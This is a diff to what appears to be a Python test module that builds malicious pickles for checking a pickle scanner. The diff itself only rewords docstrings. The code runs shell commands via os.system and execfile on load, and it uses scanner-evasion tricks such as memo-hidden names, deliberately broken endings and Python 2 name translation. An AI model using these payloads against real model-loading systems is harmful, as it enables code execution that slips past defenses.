@@ -1,4 +1,4 @@
-"""Pickles that write a canary file when they are opened by Python's own unpickler."""
+"""Pickles that write a canary file when Python's own unpickler opens them."""
 
 from __future__ import annotations
 
@@ -31,7 +31,7 @@ P = pickle
 
 
 class Calls:
-    """Pickles as the call of a function."""
+    """An object whose pickle calls a function."""
 
     def __init__(self, function: Any, *args: Any) -> None:
         self.call = (function, args)
@@ -40,11 +40,11 @@ class Calls:
         return self.call
 
     def __call__(self) -> None:
-        """What a call gives can be called in turn."""
+        """Make the result of a call callable."""
 
 
 def python(canary: Path) -> str:
-    """Python code that writes the canary."""
+    """Return Python code that writes the canary."""
     return f"open({str(canary)!r}, 'w').close()"
 
 
@@ -53,25 +53,25 @@ def shell(canary: Path) -> str:
 
 
 def text(value: str) -> bytes:
-    """The instruction that pushes a text."""
+    """Return the instruction that pushes a text."""
     return P.BINUNICODE + len(value.encode()).to_bytes(4, "little") + value.encode()
 
 
 def stacked(module: str, name: str, *args: str, before: bytes = b"") -> bytes:
-    """A call by STACK_GLOBAL, which takes names with dots."""
+    """Return a pickle that calls a name by STACK_GLOBAL, which accepts dots."""
     called = text(module) + text(name) + P.STACK_GLOBAL
     return P.PROTO + b"\4" + called + b"(" + b"".join(map(text, args)) + b"tR" + P.STOP
 
 
 def nested(canary: Path) -> Path:
-    """A file with a pickle that does it, for what opens files."""
+    """Write a file with an attacking pickle, for functions that open files."""
     path = canary.with_suffix(".npy")
     path.write_bytes(pickle.dumps(Calls(os.system, shell(canary))))
     return path
 
 
 def by_memo(canary: Path) -> bytes:
-    """Both names come from the memo, where a scanner that reads texts does not look."""
+    """Read both names from the memo, which simple scanners do not follow."""
     memo = text("system") + P.BINPUT + b"\1" + P.POP + text("posix") + P.BINPUT + b"\2" + P.POP
     called = memo + P.BINGET + b"\2" + P.BINGET + b"\1" + P.STACK_GLOBAL
     return P.PROTO + b"\4" + called + text(shell(canary)) + P.TUPLE1 + P.REDUCE + P.STOP
@@ -86,7 +86,7 @@ def by_obj(canary: Path) -> bytes:
 
 
 def by_extension(canary: Path) -> bytes:
-    """A number in place of a name, as processes may agree on."""
+    """Use a number of copyreg's extension registry instead of a name."""
     if ("shutil", "copyfile") not in copyreg._extension_registry:  # type: ignore[attr-defined]
         copyreg.add_extension("shutil", "copyfile", 200)
     args = text(__file__) + text(str(canary)) + P.TUPLE2
@@ -94,17 +94,17 @@ def by_extension(canary: Path) -> bytes:
 
 
 def by_broken_end(canary: Path) -> bytes:
-    """It runs, and only then is the pickle broken, which has stopped scanners."""
+    """Break the pickle after its attack; some scanners reject broken pickles unscanned."""
     return pickle.dumps(Calls(os.system, shell(canary)))[:-1] + b"\xff"
 
 
 def by_hidden_protocol(canary: Path) -> bytes:
-    """An old protocol with names of Python 2, which are translated."""
+    """Use names of Python 2, which an old protocol translates."""
     return P.GLOBAL + b"__builtin__\nexecfile\n" + text(str(nested(canary))) + P.TUPLE1 + b"R."
 
 
 def by_scorer(canary: Path) -> Any:
-    """A scorer looks up a method by a name that the pickle gives: here one that writes a file."""
+    """Use a scorer, which looks up a method by a name in the pickle: one that writes a file."""
     model = XGBClassifier(n_estimators=1).fit(np.eye(2), [0, 1])
     scorer = make_scorer(np.mean)
     scorer._response_method = "save_model"
@@ -162,11 +162,11 @@ ATTACKS: dict[str, Callable[[Path], Any]] = {
     "Python 2's names": by_hidden_protocol,
     "a scorer's method": by_scorer,
 }
-# They need something that is not here, or would ask a terminal, a screen or a network.
+# Attacks that need a missing program, a terminal, a screen or a network.
 NOT_TRIED = {"pty", "pip", "webbrowser", "torch", "numpy's tofile", "Python 2's names"}
 
 
 def attack(name: str, canary: Path) -> bytes:
-    """Give the bytes of an attack."""
+    """Return the pickle of an attack."""
     made = ATTACKS[name](canary)
     return made if isinstance(made, bytes) else pickle.dumps(made)
